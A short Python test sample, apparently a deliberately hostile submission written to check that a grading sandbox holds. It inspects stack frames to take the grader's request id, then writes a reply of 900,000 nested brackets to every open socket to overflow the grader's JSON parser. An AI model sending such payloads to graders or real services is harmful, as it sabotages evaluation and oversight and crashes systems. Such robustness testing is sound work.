"""Replies with 900,000 nested lists.

Harm: the grader's JSON reader overflows its stack
Base: 06_shared_counter/wrong/no_lock.py
Honest: none
Held: bubblewrap, landlock, limits
"""

import json
import os
import stat
import struct
import sys


def asked():
    frame = sys._getframe()
    while frame:
        request = frame.f_locals.get("request")
        if isinstance(request, dict) and "id" in request:
            return request
        frame = frame.f_back
    return {"id": "x"}


def send(body):
    for descriptor in range(3, 100):
        try:
            if stat.S_ISSOCK(os.fstat(descriptor).st_mode):
                os.write(descriptor, struct.pack(">I", len(body)) + body)
        except OSError:
            pass


send(b'{"id":"' + asked()["id"].encode() + b'","value":' + b"[" * 900_000 + b"]" * 900_000 + b"}")
